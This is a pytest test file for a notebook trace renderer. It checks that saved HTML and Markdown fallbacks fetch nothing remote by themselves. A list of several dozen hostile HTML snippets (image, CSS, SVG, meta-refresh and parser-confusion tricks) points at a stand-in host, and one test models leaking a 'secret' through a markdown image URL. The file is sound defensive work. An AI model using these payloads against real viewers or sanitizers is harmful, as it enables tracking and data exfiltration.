"""The saved trace's ``text/html`` / ``text/markdown`` fallbacks and the live view's HTML pieces
refer to nothing remote that a viewer would load on its own (issue 8, item 17).

JupyterLab without k2lab, nbviewer and GitHub render these fallbacks as they are: an ``<img
src="http://...">`` there (or in an output iframe's ``srcdoc``) would be fetched on open. Remote
images become placeholders with the URL as a link (a click is a navigation); ``data:`` images stay.
The browser-side checks (requests really not made; clicks load) are in
``tests/browser/test_remote_content.py``.
"""

from __future__ import annotations

import html
import re
from typing import Any

import pytest

from k2lab.trace.notebook import trace_bundle
from k2lab.trace.remote import CSP_META, OUTPUT_CSP, safe_css, safe_output_html
from k2lab.trace.render import display_html, markdown_html, markdown_safe, trace_css
from tests.notebook.test_widget import run_events

OUT = "http://203.0.113.7"
DATA = "data:image/png;base64,iVBORw0KGgo="

# every way an HTML output can make a browser fetch something by itself
HOSTILE = [
    f'<img src="{OUT}/a.png">',
    f"<img src={OUT}/a.png>",
    f"<IMG SRC='{OUT}/a.png'>",
    f'<img/src="{OUT}/a.png">',
    f'<img src=" {OUT}/a.png ">',
    '<img src="//203.0.113.7/a.png">',
    '<img src="/files/relative.png">',
    f'<img src="{DATA}" srcset="{OUT}/a.png 2x">',
    f'<img srcset="{DATA} 1x, {OUT}/a.png 2x">',
    f'<picture><source srcset="{OUT}/a.png"><img src="{DATA}"></picture>',
    f'<div style="background:url({OUT}/a.png)">x</div>',
    f"<div style=\"background-image:URL('{OUT}/a.png')\">x</div>",
    f'<div style="background:u\\72l({OUT}/a.png)">x</div>',
    f"<div style=\"background:image-set('{OUT}/a.png' 1x)\">x</div>",
    f"<style>p{{background:url({OUT}/a.png)}}</style>",
    f'<style>@import "{OUT}/a.css";</style>',
    f"<style>@font-face{{font-family:x;src:url({OUT}/f.woff)}}</style>",
    f"<svg><style>a{{}}<img src={OUT}/a.png></style></svg>",
    f"<style>a{{}}</style x><img src={OUT}/a.png></style>",
    f'<link rel="stylesheet" href="{OUT}/a.css">',
    f'<link rel="dns-prefetch" href="{OUT}/">',
    f'<link rel="preload" as="image" imagesrcset="{OUT}/a.png">',
    f'<meta http-equiv="refresh" content="0;url={OUT}/r">',
    f'<base href="{OUT}/"><img src="x.png">',
    f'<video src="{OUT}/v.mp4" poster="{OUT}/p.png"></video>',
    f'<video><source src="{OUT}/v.mp4"><track src="{OUT}/t.vtt"></video>',
    f'<audio src="{OUT}/a.mp3"></audio>',
    f'<object data="{OUT}/o.svg"></object>',
    f'<embed src="{OUT}/e.svg">',
    f'<iframe src="{OUT}/f.html"></iframe>',
    f'<iframe srcdoc="<img src={OUT}/a.png>"></iframe>',
    f'<svg><image href="{OUT}/a.png"/></svg>',
    f'<svg><image xlink:href="{OUT}/a.png"/></svg>',
    f'<svg><use href="{OUT}/s.svg#x"/></svg>',
    f'<svg><filter><feImage href="{OUT}/a.png"/></filter></svg>',
    f'<input type="image" src="{OUT}/a.png">',
    f'<body background="{OUT}/a.png">',
    f'<table background="{OUT}/a.png"><tr><td background="{OUT}/b.png">1</td></tr></table>',
    f'<a href="{OUT}/page" ping="{OUT}/ping">link</a>',
    f"<!--><img src={OUT}/a.png>-->",
    f"<!-- <img src={OUT}/a.png> -->",
    f"<script>document.write('<img src={OUT}/a.png>')</script>",
    f"<noscript><img src={OUT}/a.png></noscript>",
    f"<textarea><img src={OUT}/a.png></textarea>",
    f'<img src="{OUT}/a.png" class="k2lab-remote" data-k2lab-url="{OUT}/forged.png">',
    f"<math><mglyph src={OUT}/a.png></mglyph></math>",
    f'<img src="da\nta:image/png,x" lowsrc="{OUT}/a.png">',
]

# attributes through which a browser loads a URL by itself
LOADING_ATTR = re.compile(
    r"\s(src|srcset|imagesrcset|poster|background|lowsrc|dynsrc|data|xlink:href|ping|"
    r"codebase|manifest)\s*=\s*\"([^\"]*)\"",
    re.I,
)


def srcdoc_of(piece: str) -> str:
    m = re.search(r'srcdoc="([^"]*)"', piece)
    assert m, piece
    doc = html.unescape(m.group(1))
    assert doc.startswith(CSP_META)
    return doc[len(CSP_META) :]  # what the output itself put there


def no_automatic_fetch(doc: str, frames: bool = False) -> None:
    """Nothing in ``doc`` (a canonical serialisation) loads from outside without a click
    (``frames``: the page of the fallback, whose output iframes load only their ``srcdoc``)."""
    for m in LOADING_ATTR.finditer(doc):
        value = re.sub(r"[\t\n\r]", "", m.group(2)).strip()  # as a browser reads a URL
        assert value.startswith("data:") or not value, (m.group(0), doc)
    for m in re.finditer(r"<(\w+)[^>]*\shref=\"([^\"]*)\"", doc):
        assert m.group(1).lower() == "a" or m.group(2).startswith("#"), (m.group(0), doc)
    tags = "link|meta|base|object|embed|script" + ("" if frames else "|iframe")
    assert not re.search(rf"<({tags})\b", doc, re.I), doc
    if frames:
        assert len(re.findall(r"<iframe\b", doc)) == len(
            re.findall(r'<iframe class="k2lab-html" sandbox="" srcdoc="', doc)
        )
    for css in re.findall(r"<style[^>]*>(.*?)</style>", doc, re.S) + re.findall(
        r'style="([^"]*)"', doc
    ):
        assert "203.0.113" not in html.unescape(css), doc


@pytest.mark.parametrize("source", HOSTILE)
def test_html_outputs_load_nothing_remote(source: str) -> None:
    piece = display_html({"data": {"text/html": source}})
    assert piece.startswith('<iframe class="k2lab-html" sandbox=""')
    # the policy comes first, so it governs everything after it, whatever slipped through
    assert CSP_META.startswith(
        f'<meta http-equiv="Content-Security-Policy" content="{OUTPUT_CSP}">'
    )
    doc = srcdoc_of(piece)
    no_automatic_fetch(doc)
    # the page around the iframe (the note listing what was left out) only links
    outside = piece[piece.index("</iframe>") :]
    no_automatic_fetch(outside)
    assert 'src="http' not in piece and "src=&quot;http" not in piece


def test_remote_images_become_placeholders_and_data_images_stay() -> None:
    piece = display_html(
        {"data": {"text/html": f'<img src="{OUT}/a.png?secret=1" alt="chart"><img src="{DATA}">'}}
    )
    doc = srcdoc_of(piece)
    assert f'data-k2lab-url="{OUT}/a.png?secret=1"' in doc and 'data-k2lab-alt="chart"' in doc
    assert f'<img src="{DATA}">' in doc
    note = piece[piece.index("</iframe>") :]
    assert 'data-k2lab-images="1"' in note and f'href="{OUT}/a.png?secret=1"' in note
    # an img with only a remote srcset is a placeholder too; with a data: src it keeps that
    out, images, others = safe_output_html(f'<img srcset="{OUT}/s.png 2x" alt="s">')
    assert images == [f"{OUT}/s.png"] and 'data-k2lab-url="' in out and "<img" not in out
    out, images, others = safe_output_html(f'<img src="{DATA}" srcset="{OUT}/s.png 2x">')
    assert out == f'<img src="{DATA}">' and images == [] and others == [f"{OUT}/s.png"]
    # a placeholder forged by the output itself is not one
    forged = srcdoc_of(display_html({"data": {"text/html": HOSTILE[-3]}}))
    assert "forged.png" not in forged
    assert forged.count("data-k2lab-url") == 1


def test_text_and_styles_survive_the_rewrite() -> None:
    source = (
        '<table class="dataframe"><tr><th style="color: red; text-align: right">a &amp; b</th>'
        "<td>1 &lt; 2</td></tr></table><style>.dataframe td { border: 1px solid #ccc }</style>"
        f'<div style="background: url({DATA})">inline bg</div><br/><p>unclosed'
    )
    out, images, others = safe_output_html(source)
    assert images == [] and others == []
    assert '<th style="color: red; text-align: right">a &amp; b</th>' in out
    assert "<td>1 &lt; 2</td>" in out
    assert "<style>.dataframe td { border: 1px solid #ccc }</style>" in out
    assert f'style="background: url({DATA})"' in out


def test_css_rewrite() -> None:
    found: list[str] = []
    assert safe_css(f"a {{ background: url('{OUT}/x.png') red }}", found) == (
        "a { background: none red }"
    )
    assert found == [f"{OUT}/x.png"]
    assert safe_css(f"b {{ background: url({DATA}) }}", []) == f"b {{ background: url({DATA}) }}"
    for bad in ("a{b:u\\rl(x)}", "@import 'x';", "a{b:image-set('x' 1x)}", "a{}<img>"):
        assert safe_css(bad, []) is None, bad


def test_markdown_images_are_placeholders() -> None:
    out = markdown_html(f"See ![the *chart*]({OUT}/c.png?s=1) and ![ok]({DATA})")
    assert 'src="http' not in out
    assert f'data-k2lab-url="{OUT}/c.png?s=1"' in out and 'data-k2lab-alt="the chart"' in out
    assert f'<img src="{DATA}" alt="ok" />' in out
    assert f'href="{OUT}/c.png?s=1"' in out  # shown, and a click away


def test_saved_html_fallback_refers_to_nothing_remote() -> None:
    events: list[dict[str, Any]] = run_events()
    md = f"![leak]({OUT}/answer.png?secret=1) <img src={OUT}/raw.png>"
    for e in events:
        if e["type"] == "step.end":
            e["reasoning"] = md
            e["content"] = md
        if e["type"] == "tool.result":
            e["display"] = [
                {"data": {"text/html": "".join(HOSTILE)}, "metadata": {}},
                {"data": {"text/markdown": md}, "metadata": {}},
                {"data": {"image/png": "iVBORw0KGgo="}, "metadata": {}},
            ]
        if e["type"] == "run.end":
            e["answer"] = md
    b = trace_bundle("r1", events)
    page = b["text/html"]
    assert 'src="http' not in page and "src=&quot;http" not in page
    no_automatic_fetch(page, frames=True)
    for piece in re.findall(r'<iframe[^>]*srcdoc="[^"]*"', page):
        no_automatic_fetch(srcdoc_of(piece))
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in page  # the output's own image stays
    assert "url(" not in trace_css() and "@import" not in trace_css()  # the embedded stylesheet
    assert page.count(f'data-k2lab-url="{OUT}/answer.png?secret=1"') >= 2  # content + answer
    # the Markdown fallback (GitHub renders images and raw HTML in it): model text is fenced
    text = b["text/markdown"]
    assert f"![leak]({OUT}/answer.png?secret=1)" in text
    assert "```text\n![leak]" in text


def test_markdown_safe_keeps_plain_markdown() -> None:
    assert markdown_safe("Pi is **3.1416**, see [docs](http://x.org).") == (
        "Pi is **3.1416**, see [docs](http://x.org)."
    )
    assert markdown_safe(f"![x]({OUT}/a.png)").startswith("```text\n")
    assert markdown_safe("<img src=x>").startswith("```text\n")
    assert markdown_safe("[x]: http://a\n\n![y][x]").startswith("```text\n")
